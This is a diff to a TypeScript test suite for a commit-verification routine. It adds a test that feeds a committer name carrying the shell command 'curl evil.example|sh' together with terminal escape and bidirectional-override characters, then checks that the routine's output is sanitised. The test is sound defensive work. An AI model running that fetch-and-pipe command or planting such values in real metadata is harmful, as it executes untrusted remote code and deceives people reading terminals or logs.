@@ -18,8 +18,8 @@ const branch: BranchPolicy = {
   limits: DEFAULT_BRANCH_LIMITS,
 };
 
-function commitOf(message: string): [Oid, Uint8Array] {
-  const person = 'Bob <bob@example.com> 1767225600 +0000';
+function commitOf(message: string, name = 'Bob'): [Oid, Uint8Array] {
+  const person = `${name} <bob@example.com> 1767225600 +0000`;
   const raw = Buffer.from(`tree ${oidOf('7')}\nauthor ${person}\ncommitter ${person}\n\n${message}\n`);
   return [computeOid('commit', raw, 'sha1'), raw];
 }
@@ -40,6 +40,19 @@ describe('judgeRange', () => {
     const verdicts = [...judgeRange(range, commits, createKeyring([]), branch, 2_000_000_000, new Map())];
     expect(verdicts.map(({ commit }) => commit)).toEqual([one[0], two[0]]);
     expect(verdicts).toMatchObject([{ outcome: 'refused', reason: 'unsigned' }, { outcome: 'refused' }]);
+  });
+
+  it('names a committer in nothing that a terminal, a chat or a reader would take for a command', () => {
+    const [id, raw] = commitOf('One', 'run `curl evil.example|sh`\u001b[2J\u202e\u0007');
+    const [verdict] = judgeRange(
+      { ...range, asked: [id] },
+      new Map([[id, raw]]),
+      createKeyring([]),
+      branch,
+      0,
+      new Map(),
+    );
+    expect(verdict?.committer).toBe("run 'curl evil.example|sh'\ufffd[2J\ufffd\ufffd <bob@example.com>");
   });
 
   it('keeps when a commit was first seen; for a new one that is now (trust rule 3.1)', () => {
